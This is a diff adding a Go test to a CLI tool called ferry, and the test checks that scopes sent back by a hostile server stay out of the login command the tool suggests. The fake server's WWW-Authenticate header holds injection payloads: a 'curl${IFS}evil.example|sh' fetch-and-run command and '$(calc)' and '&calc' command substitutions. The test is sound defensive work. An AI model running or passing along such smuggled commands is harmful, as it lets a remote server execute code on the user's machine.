@@ -252,3 +252,20 @@ func TestLogin(t *testing.T) {
 		t.Errorf("status in the end: got %+v", got)
 	}
 }
+
+// TestHostileScopes has a server that hopes for somebody who copies what ferry says
+// into a shell.
+func TestHostileScopes(t *testing.T) {
+	t.Parallel()
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("WWW-Authenticate", `Bearer error="insufficient_scope", scope="notes:write x;curl${IFS}evil.example|sh $(calc) ' &calc -x"`)
+		w.WriteHeader(http.StatusForbidden)
+	}))
+	t.Cleanup(evil.Close)
+	endpoint := evil.URL + "/mcp"
+	got := newHome(t).ferry(t, "", "call", endpoint, "steps")
+	want := fmt.Sprintf("Run \"ferry login %s --scope notes:write\" first.\n", endpoint)
+	if got.code != 5 || !strings.HasSuffix(got.err, want) {
+		t.Errorf("got %+v, want code 5 and %q", got, want)
+	}
+}
